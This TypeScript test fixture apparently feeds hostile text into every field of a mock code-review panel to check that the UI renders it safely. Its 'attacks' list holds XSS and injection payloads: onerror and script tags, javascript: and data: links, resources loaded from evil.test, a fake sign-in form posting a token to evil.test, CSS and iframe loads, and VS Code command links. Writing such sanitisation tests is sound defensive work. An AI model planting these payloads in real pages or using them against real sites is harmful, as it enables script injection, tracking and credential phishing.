import { noTokens } from '../../../src/core/domain/modelUsage.ts';
import { finding, panel, round } from './states.ts';

/** Text that tries to run, load, style, submit, mislead or swamp. Each would leave a trace if it worked. */
export const attacks = [
  '<img src=x onerror="window.pwned = 1">',
  '<img srcset="https://evil.test/a.png 1x">',
  '![tracker](https://evil.test/pixel.png)',
  '<script>window.pwned = 2</script>',
  '<script src="https://evil.test/x.js"></script>',
  '[click me](javascript:window.pwned=3)',
  '[click me](JaVaScRiPt&colon;window.pwned=3)',
  '[data](data:text/html,<script>window.pwned=4</script>)',
  '<a href="command:workbench.action.terminal.new">run</a>',
  '[command](command:workbench.action.terminal.new)',
  '<svg onload="window.pwned=5"><use href="https://evil.test/a.svg#x"/></svg>',
  '<style>body { display: none; background: url(https://evil.test/css) }</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/bg)">over everything</p>',
  '<form action="https://evil.test/"><input name="token"><button>Sign in</button></form>',
  '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=6&gt;">',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<div id="app">clobbered</div><input id="search" autofocus onfocus="window.pwned=7">',
  '`` `<img src=x onerror=window.pwned=8>` ``\n\n    <img src=x onerror=window.pwned=9>',
  '${window.pwned=10} {{constructor.constructor("window.pwned=11")()}} lit$123$',
];

const everything = attacks.join('\n\n');
const reversed = 'safe\u202Etxt.exe\u202C\u200Bend\u0007';
const huge = 'A'.repeat(60_000);

/** What a reviewer says, when all of it is this text. */
const said = (text: string) =>
  ({
    reviewer: text,
    label: text,
    severity: 'critical',
    severityReason: text,
    category: 'risk',
    title: text,
    quote: text,
    observation: text,
    concern: text,
    recommendation: text,
  }) as const;

/** A review in which every field that takes text carries an attack. */
export const hostile = panel(
  [
    round({
      number: 1,
      findings: [
        ...attacks.map((attack, index) =>
          finding({
            id: `F${index + 1}`,
            severity: 'critical',
            title: attack,
            observation: attack,
            concern: `${attack}\n\n> ${attack}`,
            recommendation: `| a | b |\n| - | - |\n| ${attack.replaceAll('\n', ' ').replaceAll('|', ' ')} | x |`,
            quote: attack,
            section: [attack, 'Section'],
            check: attack,
            reviewers: [attack],
            statements: [said(attack), said(attack)],
            notes: [{ code: 'merged', text: attack }],
          }),
        ),
        finding({
          id: 'F90',
          title: reversed,
          observation: reversed,
          quote: reversed,
          section: [reversed],
        }),
        finding({ id: 'F91', title: huge, observation: huge, quote: huge, section: [huge], check: huge }),
        finding({
          id: 'F92',
          title: '**['.repeat(6_000),
          observation: '[a]('.repeat(4_000),
          concern: '> '.repeat(9_000),
        }),
        finding({
          id: 'F93',
          title: 'A [link](https://example.org/page) in a title',
          observation: 'A [link](https://example.org/page).',
        }),
      ],
      claims: [
        {
          kind: 'file',
          value: everything,
          intent: 'exists',
          verdict: 'fail',
          range: { start: { line: 1, column: 1 }, end: { line: 1, column: 2 } },
          detail: everything,
          suggestion: everything,
          cached: false,
        },
      ],
      reviewers: [
        {
          id: 'x',
          name: everything,
          status: 'failed_isolated',
          findings: 0,
          detail: everything,
        },
      ],
      strengths: [{ id: 'S1', text: everything }],
      questions: [{ id: 'Q1', text: everything }],
      panel: {
        strategy: 'independent',
        selection: 'manual',
        reviewers: [
          {
            id: 'x',
            name: everything,
            role: 'lead',
            provider: everything,
            model: everything,
            opinion: {
              summary: everything,
              verdict: 'GO',
              ratings: { clarity: 1, accuracy: 1, fit: 1, usability: 1 },
              assumptions: [everything],
            },
          },
        ],
        summary: everything,
        remarks: [everything],
        tasks: [
          {
            id: 'x',
            phase: 'reviewers',
            status: 'failed_isolated',
            provider: everything,
            model: everything,
            answeredBy: everything,
            attempts: 1,
            calls: 1,
            elapsedMs: 1,
            usage: noTokens,
            error: {
              code: everything,
              message: everything,
              wayOut: everything,
              provider: everything,
              isRetryable: false,
            },
          },
        ],
        usage: noTokens,
      },
      repository: { head: everything, branch: everything, planCommitted: false },
    }),
  ],
  {
    plan: { path: `docs/${everything}.md`, title: everything, kind: 'prp' },
    stale: everything,
    problems: [everything],
    error: { message: everything, wayOut: everything },
    unfinished: {
      number: 2,
      startedAt: '2026-03-14T09:41:00.000Z',
      succeeded: 1,
      failures: [{ task: everything, message: everything, wayOut: everything }],
      isRunning: false,
    },
    run: { steps: [{ id: 'a', text: everything, state: 'running' }], canCancel: true },
  },
);
